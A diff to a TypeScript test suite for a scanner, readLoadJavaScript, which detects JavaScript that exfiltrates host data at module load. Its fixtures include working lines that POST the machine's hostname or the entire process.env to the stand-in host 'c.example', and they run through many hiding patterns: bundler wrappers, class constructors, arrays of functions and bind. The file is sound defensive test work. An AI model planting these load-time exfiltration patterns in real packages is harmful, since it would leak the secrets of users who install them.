@@ -32,6 +32,10 @@ describe('readLoadJavaScript: findings at load', () => {
 const webpack5 = (entry: number, payloadId: number): string =>
   `(()=>{var e={12:(e,t,r)=>{r(34);e.exports=1},${payloadId}:(e,t,r)=>{const h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify({h:require("os").hostname()}))},78:e=>{e.exports=2}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}var n=r(${entry});module.exports=n})();`;
 
+/** A parcel 1 bundle (its prelude shortened): modules by id, each with its map of required paths to ids; the entry ids last. */
+const parcel1 = (entry: string, payloadId: string): string =>
+  `parcelRequire = (function (modules, cache, entry, globalName) {\n  function newRequire(name, jumped) {\n    if (!cache[name]) {\n      var module = cache[name] = new newRequire.Module(name);\n      modules[name][0].call(module.exports, localRequire, module, module.exports, this);\n    }\n    return cache[name].exports;\n    function localRequire(x) { return newRequire(localRequire.resolve(x)); }\n    function resolve(x) { return modules[name][1][x] || x; }\n  }\n  function Module(moduleName) { this.id = moduleName; this.bundle = newRequire; this.exports = {}; }\n  newRequire.Module = Module;\n  for (var i = 0; i < entry.length; i++) { newRequire(entry[i]); }\n  return newRequire;\n})({"Focm":[function(require,module,exports) {\nvar x = require("./x");\n},{"./x":"${payloadId === 'b2' ? 'b2' : 'c3'}"}],"b2":[function(require,module,exports) {\n${HEAD}${HOST_DATA_SEND}\n},{}],"c3":[function(require,module,exports) {\nmodule.exports = 1;\n},{}]},{},["${entry}"], null)`;
+
 describe('readLoadJavaScript: the ways code is run at load', () => {
   test.each([
     ['process.nextTick', `${HEAD}process.nextTick(function () { ${HOST_DATA_SEND} });`],
@@ -60,6 +64,27 @@ describe('readLoadJavaScript: the ways code is run at load', () => {
     ["a webpack 4 bundle's entry module (a map by index, `n(n.s = 1)`)", 'module.exports=function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}return n(n.s=1)}([function(e,t){e.exports=1},function(e,t,n){n(0);var h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify(process.env))}]);'],
     ["a webpack 4 development bundle's entry module (a map by path)", `module.exports = (function (modules) { var installedModules = {}; function __webpack_require__(moduleId) { var module = installedModules[moduleId] = { exports: {} }; modules[moduleId].call(module.exports, module, module.exports, __webpack_require__); return module.exports; } return __webpack_require__(__webpack_require__.s = "./src/index.js"); })({ "./src/index.js": (function (module, exports, __webpack_require__) { ${HEAD}${HOST_DATA_SEND} }) });`],
     ['an esbuild bundle\'s module run by its require_ wrapper', `var __commonJS = (cb, mod) => function __require() { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };\nvar require_probe = __commonJS({ "probe.js"(exports, module) { ${HEAD}${HOST_DATA_SEND} } });\nmodule.exports = require_probe();`],
+    ["an esbuild bundle's module required by another module that runs", `var __commonJS = (cb, mod) => () => mod;\nvar require_b = __commonJS({ "b.js"(exports, module) { ${HEAD}${HOST_DATA_SEND} } });\nvar require_a = __commonJS({ "a.js"(exports, module) { require_b(); } });\nrequire_a();`],
+    ["an esbuild bundle's module run by its init_ wrapper (__esm)", `var __esm = (fn, res) => function __init() { return fn && (res = (0, fn[Object.keys(fn)[0]])(fn = 0)), res; };\nvar init_probe = __esm({ "probe.js"() { ${HEAD}${HOST_DATA_SEND} } });\ninit_probe();`],
+    ['the constructor of a class made at load', `${HEAD}class Stealer { constructor() { ${HOST_DATA_SEND} } }\nnew Stealer();`],
+    ['a method the constructor calls by a computed name on this', `${HEAD}class Stealer { constructor() { for (const k of ['run']) this[k](); } run() { ${HOST_DATA_SEND} } }\nnew Stealer();`],
+    ['a class without a name made where it is written (new (class { … })())', `${HEAD}new (class { constructor() { ${HOST_DATA_SEND} } })();`],
+    ['a class without a name made where it is written (new class { … }())', `${HEAD}new class { constructor() { ${HOST_DATA_SEND} } }();`],
+    ['a class bound to a name and made by it', `${HEAD}const Stealer = class { constructor() { ${HOST_DATA_SEND} } };\nnew Stealer();`],
+    ['functions in an array walked by forEach that calls each', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nfunction send() {}\n[steal, send].forEach((f) => f());`],
+    ['functions in an array walked by map that calls each', `${HEAD}function steal() { ${HOST_DATA_SEND} }\n[steal].map(fn => fn());`],
+    ['functions in an array walked by for … of that calls each', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nfor (const f of [steal]) f();`],
+    ['a function written in an array walked by forEach that calls each', `${HEAD}[function () { ${HOST_DATA_SEND} }].forEach((f) => f());`],
+    ['a named array of functions walked by forEach that calls each', `${HEAD}const steal = () => { ${HOST_DATA_SEND} };\nconst steps = [steal];\nsteps.forEach((f) => f());`],
+    ['a function written in a named array called by index', `${HEAD}const steps = [function () { ${HOST_DATA_SEND} }];\nsteps[0]();`],
+    ['Reflect.apply of a declared function', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nReflect.apply(steal, null, []);`],
+    ['a declared function bound and called at once', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nsteal.bind(null)();`],
+    ['a declared function bound to another name called by it', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nconst go = steal.bind(null);\ngo();`],
+    ["a minified esbuild bundle's module run by its wrapper's name (__commonJS)", `${HEAD}var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var f=c((e,t)=>{${HOST_DATA_SEND}});f();`],
+    ["a minified esbuild bundle's module run by its wrapper's name (__esm)", `${HEAD}var o=(e,t)=>()=>(e&&(t=e(e=0)),t);var i=o(()=>{${HOST_DATA_SEND}});i();`],
+    ["a parcel 1 bundle's entry module", parcel1('b2', 'c3')],
+    ["a module a parcel 1 bundle's entry requires", parcel1('Focm', 'b2')],
+    ["an exported function called through exports['x']()", `${HEAD}exports.steal = function () { ${HOST_DATA_SEND} };\nexports['steal']();`],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual(['exfiltration']);
   });
@@ -90,6 +115,19 @@ describe('readLoadJavaScript: what a library does when asked is not a finding', 
     ["an object's method whose name another object's called method shares", `${HEAD}const client = { send() { ${HOST_DATA_SEND} } };\nconst queue = { send() {} };\nqueue.send();\nmodule.exports = client;`],
     ["a Discord webhook client made from the user's configuration (discord.js's documented use)", "const { WebhookClient } = require('discord.js');\nconst hook = new WebhookClient({ url: process.env.WEBHOOK_URL });\nhook.send('deployed');"],
     ["a Telegram bot made from the user's token (telegraf's documented use)", "const { Telegraf } = require('telegraf');\nconst bot = new Telegraf(process.env.BOT_TOKEN);\nbot.launch();"],
+    ["an esbuild bundle's module nothing requires", `var __commonJS = (cb, mod) => function __require() { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };\nvar require_probe = __commonJS({ "probe.js"(exports, module) { ${HEAD}${HOST_DATA_SEND} } });\nmodule.exports = 1;`],
+    ["an esbuild __esm module never initialised", `var __esm = (fn, res) => function __init() { return fn && (res = (0, fn[Object.keys(fn)[0]])(fn = 0)), res; };\nvar init_probe = __esm({ "probe.js"() { ${HEAD}${HOST_DATA_SEND} } });\nexport { init_probe };`],
+    ['a class declared and exported, never made', `${HEAD}class Stealer { constructor() { ${HOST_DATA_SEND} } }\nmodule.exports = Stealer;`],
+    ['a class bound to a name and exported, never made', `${HEAD}const Stealer = class { constructor() { ${HOST_DATA_SEND} } };\nmodule.exports = Stealer;`],
+    ['a class made where it is written inside a function nobody calls', `${HEAD}function later() { new (class { constructor() { ${HOST_DATA_SEND} } })(); }\nmodule.exports = later;`],
+    ['a class made at load whose constructor sets fields by a computed name (not a call)', `${HEAD}class Client { constructor(o) { for (const k of Object.keys(o)) this[k] = o[k]; } send() { ${HOST_DATA_SEND} } }\nmodule.exports = new Client({});`],
+    ['an array of functions stored and exported', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nmodule.exports = [steal];`],
+    ['an array of functions walked without calling them (plugins registered)', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nconst plugins = [];\n[steal].forEach((p) => plugins.push(p));\nmodule.exports = plugins;`],
+    ['a named array of functions walked only by an exported function', `${HEAD}const steps = [function () { ${HOST_DATA_SEND} }];\nexports.run = () => { steps.forEach((f) => f()); };`],
+    ["a parcel 1 bundle's module that the entry does not require", parcel1('Focm', 'c3')],
+    ["a minified esbuild bundle's module whose wrapper nobody calls", `${HEAD}var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var f=c((e,t)=>{${HOST_DATA_SEND}});module.exports=1;`],
+    ['a function wrapped by a memoizer and exported, not called', `${HEAD}const report = memoize(() => { ${HOST_DATA_SEND} });\nmodule.exports = report;`],
+    ['a declared function bound and exported, not called', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nmodule.exports = steal.bind(null);`],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual([]);
   });
